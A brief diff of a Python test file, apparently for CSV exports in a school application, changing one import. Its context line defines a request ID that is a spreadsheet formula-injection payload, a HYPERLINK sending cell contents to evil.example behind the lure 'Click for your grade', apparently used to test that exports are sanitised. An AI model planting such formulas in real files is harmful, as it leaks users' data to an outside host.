@@ -5,7 +5,7 @@ are streamed, read in a transaction of their own as the caller."""
 import csv
 import io
 
-from tests.ai.conftest import make_school, message  # noqa: F401 - fixture
+from tests.ai.support import message
 from tests.conftest import assert_problem
 
 REQUEST_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your grade")'
